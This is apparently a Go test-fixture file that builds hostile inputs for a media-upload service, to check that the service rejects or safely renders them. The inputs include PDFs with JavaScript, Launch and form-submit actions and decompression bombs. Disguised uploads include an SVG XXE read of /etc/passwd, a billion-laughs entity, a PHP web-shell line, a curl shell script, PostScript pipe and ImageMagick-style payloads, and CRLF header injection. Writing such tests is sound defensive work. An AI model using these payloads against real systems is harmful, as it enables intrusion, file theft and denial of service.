package mediaboxtest

import (
	"archive/zip"
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"fencepost.internal/shared/domain/media"
)

func hostilePDF(t testing.TB, address string) []File {
	t.Helper()
	g := group{contentType: media.ContentTypePDF}
	good := PDF(300, 200, "")
	stream := func(dictionary string, content []byte) string {
		return fmt.Sprintf("<<%s/Length %d>>stream\n%s\nendstream", dictionary, len(content), content)
	}
	// Every form draws the next one ten times.
	forms := make([]string, 0, 12)
	for i := range cap(forms) {
		content := strings.Repeat(fmt.Sprintf("/F%d Do ", i+1), 10)
		forms = append(forms,
			stream(fmt.Sprintf("/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</XObject<</F%d %d 0 R>>>>", i+1, i+6),
				[]byte(content)))
	}
	forms = append(forms, stream("/Type/XObject/Subtype/Form/BBox[0 0 300 200]", []byte("0 0 9 9 re f")))
	drawing := func(file []byte, resources string) []byte {
		file = bytes.Replace(file, []byte("/Resources<<>>"), []byte("/Resources<<"+resources+">>"), 1)
		return bytes.Replace(file, []byte("re f\nendstream"), []byte("re /A Do \nendstream"), 1)
	}
	g.add("pdf-script", renders, PDF(300, 200, "/OpenAction 5 0 R/AA<</WC 5 0 R>>",
		"<</S/JavaScript/JS(app.launchURL\\('"+address+"'\\); while\\(true\\);)>>"))
	g.add("pdf-starts-a-program", renders, PDF(300, 200, "/OpenAction<</S/Launch/F(/bin/sh)>>"))
	g.add("pdf-opens-a-file", renders, PDF(300, 200, "/OpenAction<</S/GoToR/F(/etc/passwd)>>"))
	g.add("pdf-sends-a-form", renders, PDF(300, 200,
		"/OpenAction<</S/SubmitForm/F<</FS/URL/F("+address+")>>>>"))
	g.add("pdf-stream-elsewhere", renders, PDF(300, 200, "/AF[5 0 R]",
		"<</Length 0/F<</FS/URL/F("+address+")>>>>stream\nendstream"))
	g.add("pdf-page-of-200-miles", renders, PDF(14_400_000, 9_600_000, ""))
	g.add("pdf-page-of-a-hair", renders, PDF(14_400, 0.02, ""))
	g.add("pdf-pages-in-circles", broken, bytes.Replace(good, []byte("/Kids[3 0 R]"), []byte("/Kids[2 0 R]"), 1))
	g.add("pdf-1000000000-pages", broken, bytes.Replace(good, []byte("/Count 1"), []byte("/Count 1000000000"), 1))
	g.add("pdf-stream-bomb", renders, drawing(PDF(300, 200, "",
		stream("/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Filter/FlateDecode", Zeros(t, bomb/4))),
		"/XObject<</A 5 0 R>>"))
	g.add("pdf-forms-in-forms", timedOut, drawing(PDF(300, 200, "", forms...), "/XObject<</A 5 0 R>>"))
	g.add("pdf-picture-of-4-gigapixels", timedOut, drawing(PDF(300, 200, "",
		stream(
			"/Type/XObject/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode",
			Zeros(t, 1<<20))), "/XObject<</A 5 0 R>>"))
	g.or(renders) // Poppler 25 scales it while it reads it
	g.add("pdf-cut", broken, good[:60])
	g.add("pdf-of-zeros", broken, []byte("%PDF-1.7\n"), make([]byte, 50_000))
	g.add("pdf-noise", broken, []byte("%PDF-1.7\n"), noise(50_000))
	g.add("pdf-brackets", broken, []byte("%PDF-1.7\n1 0 obj"), bytes.Repeat([]byte("<<"), 20_000))
	g.add("pdf-and-zip", broken, []byte("%PDF-1.7\n"), archive(t, "note.txt", []byte(Canary)))
	g.add("pdf-and-jpeg", broken, []byte("%PDF-1.7\n"), JPEG(t, Scene(30, 20)))
	return g.files
}

// archive returns a ZIP file with one entry.
func archive(t testing.TB, name string, content []byte) []byte {
	t.Helper()
	var file bytes.Buffer
	writer := zip.NewWriter(&file)
	entry, err := writer.Create(name)
	require.NoError(t, err)
	_, err = entry.Write(content)
	require.NoError(t, err)
	require.NoError(t, writer.Close())
	return file.Bytes()
}

// disguised returns files of unsupported types with the content type of pictures.
func disguised(t testing.TB, address string) []File {
	t.Helper()
	g := group{contentType: media.ContentTypePNG}
	for name, text := range map[string]string{
		"svg":                `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
		"svg-with-picture":   `<svg xmlns="http://www.w3.org/2000/svg"><image href="` + address + `"/></svg>`,
		"svg-with-entity":    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
		"svg-of-a-billion":   `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>`,
		"page":               "<!DOCTYPE html><html><body><script>fetch('" + address + "')</script></body></html>",
		"page-behind-blanks": strings.Repeat(" ", 400) + "<html><script>alert(1)</script></html>",
		"xml":                `<?xml version="1.0"?><x>` + address + `</x>`,
		"php":                "<?php system($_GET['c']); ?>",
		"shell-script":       "#!/bin/sh\ncurl " + address + "\n",
		"postscript":         "%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file closefile\n",
		"drawing-commands": "push graphic-context\nviewbox 0 0 640 480\nfill 'url(" + address +
			"|id)'\npop graphic-context\n",
		"drawing-script":       `<image><read filename="caption:@/etc/passwd"/><write filename="/tmp/x.php"/></image>`,
		"text":                 "just some words",
		"one-byte":             "\x89",
		"bitmap":               "BM\x00\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00(\x00\x00\x00\xFF\xFF\xFF\x7F\xFF\xFF\xFF\x7F",
		"icon":                 "\x00\x00\x01\x00\x01\x00\x00\x00\x00\x00\x01\x00\x20\x00",
		"tiff":                 "II*\x00\x08\x00\x00\x00\xFF\xFF",
		"photoshop":            "8BPS\x00\x01\x00\x00\x00\x00\x00\x00\x00\x03\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x00\x08\x00\x03",
		"avif-sequence":        "\x00\x00\x00\x1cftypavis\x00\x00\x00\x00mif1avismiaf",
		"flash":                "FWS\x09\xFF\xFF\xFF\xFF",
		"program":              "\x7FELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00",
		"windows-program":      "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff",
		"java-class":           "\xCA\xFE\xBA\xBE\x00\x00\x00\x34",
		"matroska":             "\x1A\x45\xDF\xA3\x8B\x42\x82\x88matroska",
		"transport-stream":     strings.Repeat("G"+strings.Repeat("\xFF", 187), 4),
		"names-with-new-lines": "image/png\r\nContent-Type: text/html\r\n\r\n<html>",
	} {
		g.add(name, unsupported, []byte(text))
	}
	slices.SortFunc(g.files, func(a, b File) int { return strings.Compare(a.Name, b.Name) })
	g.add("nothing", broken)
	g.add("zip-bomb", unsupported, archive(t, "zeros", make([]byte, 50<<20)))
	g.add("zeros", unsupported, make([]byte, 100_000))
	g.add("ones", unsupported, bytes.Repeat([]byte{0xFF}, 100_000))
	g.add("noise", unsupported, noise(100_000))
	return g.files
}
